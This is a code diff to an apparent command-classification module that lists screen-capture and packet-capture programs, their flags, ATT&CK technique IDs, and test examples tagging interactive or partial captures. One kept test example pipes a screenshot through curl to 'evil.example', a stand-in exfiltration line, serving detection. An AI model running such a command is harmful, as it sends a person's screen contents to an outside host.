@@ -21,14 +21,28 @@ const LOGINS = 'auth|cookie|pass|pwd|credential|token|user|file_data|kerberos|nt
 /** Programs that record what a person sees, types, says or copies, and what passes on the network (T1113, T1056.001, T1115, T1123, T1125, T1040). */
 export const CAPTURE: readonly Signature[] = [
   {
-    names: ['grim', 'ksnip', 'shutter', 'xwd', 'fbgrab', 'fbcat', 'xfce4-screenshooter', 'escrotum', 'grimshot', 'deepin-screenshot', 'wayshot', 'shotgun', 'fbshot', 'snapscreenshot'],
+    names: ['grim', 'fbgrab', 'fbcat', 'wayshot', 'shotgun', 'fbshot', 'snapscreenshot'],
     flags: { '-o, --output, -f, --file, --filename, -s, --save, -p, --path, -out': { value: 'value', optional: true }, '-d, --delay, -t, --type, -g, --geometry, -l, -q, --quality, -c, --count, -R, -D, -T, -i, --window': { value: 'value', optional: true }, '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], inert: ['-V'],
-    examples: [['grim /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['grim - | curl -F "f=@-" https://evil.example', ['capture screen:picture']], ['xwd --help', []]],
+    examples: [['grim /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['grim - | curl -F "f=@-" https://evil.example', ['capture screen:picture']], ['fbcat --help', []]],
+  },
+  {
+    names: ['ksnip', 'shutter', 'escrotum', 'deepin-screenshot', 'grimshot'], flags: { '-r, --rectarea, --select, -s': { value: 'value', optional: true }, '-a, --active, -u, --windowundercursor, -w, --window': { value: 'value', optional: true }, '-o, --output, -p, --save, --path': { value: 'value', optional: true }, '-d, --delay, -t, --type, -c': { value: 'value', optional: true }, '-f, --full, -m, --fullscreen': 'switch' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], tags: { '-r': 'interactive', '-a': 'fragment' }, modes: [{ when: { operand: '^(?:area|window)$' }, tags: { '*': 'interactive' } }, { when: { operand: '^active$' }, tags: { '*': 'fragment' } }], inert: ['-v', '--version'],
+    examples: [['ksnip -r', ['capture screen:picture+interactive']], ['shutter --full -o all.png', ['capture screen:picture', '!capture screen:picture+interactive']], ['ksnip -a', ['capture screen:picture+fragment']], ['grimshot copy area', ['capture screen:picture+interactive']], ['grimshot save screen all.png', ['capture screen:picture', '!capture screen:picture+interactive']]],
+  },
+  // Without a flag a dialog asks what to take.
+  {
+    names: ['xfce4-screenshooter'], flags: { '-f, --fullscreen': 'switch', '-r, --region': 'switch', '-w, --window': 'switch', '-s, --save': 'value', '-o, --open': 'command', '-d, --delay': 'value', '-c, --clipboard, -m, --mouse': 'switch' }, stdin: 'ignored', effects: [SCREEN], modes: [{ when: { flags: ['-f'] } }, { when: { flags: ['-w'] }, tags: { '*': 'fragment' } }, { when: {}, tags: { '*': 'interactive' } }],
+    examples: [['xfce4-screenshooter -r', ['capture screen:picture+interactive']], ['xfce4-screenshooter -f -s /tmp', ['capture screen:picture', '!capture screen:picture+interactive']]],
+  },
+  // Without a window it waits for a click on one.
+  {
+    names: ['xwd'], grammar: 'single-dash', flags: { '-root': 'switch', '-id, -name': 'value', '-out': 'write', '-display, -screen': 'value', '-silent, -frame': 'switch' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], modes: [{ when: { flags: ['-root'] } }, { when: { flags: ['-id'] }, tags: { '*': 'fragment' } }, { when: {}, tags: { '*': 'interactive' } }], inert: ['-version', '-help'],
+    examples: [['xwd -root -out all.xwd', ['capture screen:picture', '!capture screen:picture+interactive']], ['xwd -id 0x1 -out w.xwd', ['capture screen:picture+fragment']], ['xwd --help', []]],
   },
   // With these flags a person at the screen chooses what is taken, or nothing is.
   {
-    names: ['scrot', 'maim'], flags: { '-s, --select': { value: 'value', optional: true }, '-i, --window': 'value', '-F, --file': 'write', '-d, --delay, -q, --quality, -c, --count, -g, --geometry, -f, --format, -m, -x, -y, -w, -h, -b, --bordersize, -p, --padding, -t, --tolerance, -a, --autoselect, -D, --display': 'value', '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], tags: { '-s': 'interactive', '-i': 'fragment' }, inert: ['-v', '--version'],
-    examples: [['scrot -d 5 /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['maim /tmp/s.png', ['capture screen:picture', '!capture screen:picture+interactive']], ['maim --select s.png', ['capture screen:picture+interactive']], ['maim -i 0x3a00007 s.png', ['capture screen:picture+fragment']], ['scrot --version', []]],
+    names: ['scrot', 'maim'], flags: { '-s, --select': { value: 'value', optional: true }, '-i, --window': 'value', '--focused': 'switch', '-u, --hidecursor': 'switch', '-F, --file': 'write', '-d, --delay, -q, --quality, -c, --count, -g, --geometry, -f, --format, -m, -x, -y, -w, -h, -b, --bordersize, -p, --padding, -t, --tolerance, -a, --autoselect, -D, --display': 'value', '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], tags: { '-s': 'interactive', '-i': 'fragment', '--focused': 'fragment' }, inert: ['-v', '--version'],
+    examples: [['scrot --focused w.png', ['capture screen:picture+fragment']], ['maim -u all.png', ['!capture screen:picture+fragment']], ['scrot -d 5 /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['maim /tmp/s.png', ['capture screen:picture', '!capture screen:picture+interactive']], ['maim --select s.png', ['capture screen:picture+interactive']], ['maim -i 0x3a00007 s.png', ['capture screen:picture+fragment']], ['scrot --version', []]],
   },
   {
     names: ['gnome-screenshot'], flags: { '-i, --interactive': 'switch', '-a, --area': 'switch', '-w, --window': 'switch', '-f, --file': 'write', '-d, --delay, -e, --effect, --border-effect': { value: 'value', optional: true } }, stdin: 'ignored', effects: [SCREEN], tags: { '-i': 'interactive', '-a': 'interactive', '-w': 'fragment' },
@@ -123,9 +137,14 @@ export const CAPTURE: readonly Signature[] = [
     examples: [['tshark -c 5 -i en0', ['capture traffic:packets', '!capture traffic:packets+fragment']], ["tshark -f 'tcp port 8080'", ['capture traffic:packets+fragment']], ["tshark -i eth0 -Y 'http.response.code == 500'", ['capture traffic:packets+fragment']], ['tshark -Y http.authbasic -T fields -e http.authbasic', ['capture traffic:packets', '!capture traffic:packets+fragment']], ['tshark -Y http -T json', ['!capture traffic:packets+fragment']], ["tshark -f 'tcp port 80' -w p.pcap", ['!capture traffic:packets+fragment']], ['tshark -r p.pcap -Y dns', ['!capture traffic']]],
   },
   {
-    names: ['dumpcap', 'ngrep', 'netsniff-ng', 'tcpflow', 'termshark', 'tcpick', 'sniffglue', 'kismet', 'kismet_server'],
+    names: ['dumpcap', 'ngrep', 'netsniff-ng', 'tcpflow', 'tcpick', 'sniffglue', 'kismet', 'kismet_server'],
     flags: { ...TRAFFIC_FLAGS, '-f, -Y, -R, -e, -T, -x, -P, -A': { value: 'value', optional: true } },
     operands: { rest: 'value' }, stdin: 'data', stdout: 'content', effects: [PACKETS], inert: ['-h'],
     examples: [['dumpcap -i eth0 -w /tmp/p.pcap', ['capture traffic:packets', 'write path:ordinary']], ['ngrep -d any port 80', ['capture traffic:packets']], ['dumpcap -D', []]],
+  },
+  // Shown on the whole terminal to the person who sits at it.
+  {
+    names: ['termshark'], flags: { ...TRAFFIC_FLAGS, '-f, -Y, -T, -R': 'value' }, operands: { rest: 'value' }, stdin: 'ignored', effects: [PACKETS], modes: [{ when: { flags: ['-w'] } }, { when: {}, tags: { '*': 'interactive' } }], inert: ['-h'],
+    examples: [['termshark -i eth0', ['capture traffic:packets+interactive']], ['termshark -r p.pcap', ['!capture traffic']]],
   },
 ]
